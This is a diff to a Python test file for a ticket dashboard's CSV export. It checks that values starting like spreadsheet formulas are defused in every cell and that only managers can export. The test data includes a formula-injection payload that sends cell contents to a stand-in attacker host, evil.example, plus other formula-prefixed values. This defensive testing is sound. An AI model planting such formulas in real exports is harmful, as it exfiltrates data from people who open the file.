@@ -10,6 +10,7 @@ import pytest
 from sqlalchemy import select
 from sqlalchemy.orm import Session
 
+from models import Product
 from models.users import TicketStatusChange
 from tests.dashboard.conftest import Browser
 
@@ -123,13 +124,46 @@ def test_csv_export_follows_the_filters(as_manager: Browser, many_tickets: list[
     assert rows[0]["number"].startswith("HL-")
 
 
-def test_csv_defuses_spreadsheet_formulas(
+def test_csv_defuses_spreadsheet_formulas_in_every_cell(
     as_manager: Browser, session: Session, many_tickets: list[Any]
 ) -> None:
-    many_tickets[3].subject = '=HYPERLINK("http://evil")'
+    ticket = many_tickets[0]  # an Acme ticket, with the router product
+    account, product = ticket.account, session.query(Product).one()
+    account.name = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
+    product.name = "@SUM(1+1)"
+    ticket.product = product
+    ticket.subject = "+1 HYPERLINK subject"
+    ticket.contact_name = "-2+3"
+    ticket.contact_phone = "\t=1+1"
+    ticket.refusal_reason = "\r=cmd"
     session.commit()
     data = as_manager.get("/dashboard/tickets/export.csv", query_string={"q": "HYPERLINK"}).data
-    assert b"'=HYPERLINK" in data
+    # Search also matches the account name, so every Acme ticket comes out; take ours.
+    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
+    row = next(r for r in rows if r["number"] == ticket.number)
+    assert row["account"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Acme")'
+    assert row["product"] == "'@SUM(1+1)"
+    assert row["subject"] == "'+1 HYPERLINK subject"
+    assert row["contact_name"] == "'-2+3"
+    assert row["contact_phone"] == "'\t=1+1"
+    assert row["refusal_reason"] == "'\r=cmd"
+    # No cell of the file, whatever its column, starts as a formula.
+    for cells in csv.reader(io.StringIO(data.decode(), newline="")):
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+
+
+def test_an_engineer_cannot_export_csv(as_engineer: Browser, many_tickets: list[Any]) -> None:
+    response = as_engineer.get("/dashboard/tickets/export.csv")
+    assert response.status_code == 403
+    assert response.mimetype == "text/html"
+    assert b"This page is for managers." in response.data
+    assert b"HL-" not in response.data
+    # The list no longer offers the button to engineers, but still does to managers.
+    assert b"Export CSV" not in as_engineer.get("/dashboard/tickets/").data
+
+
+def test_a_manager_sees_the_export_button(as_manager: Browser) -> None:
+    assert b"Export CSV" in as_manager.get("/dashboard/tickets/").data
 
 
 def test_the_ticket_page_shows_the_whole_timeline(as_engineer: Browser, call_ticket: Any) -> None:
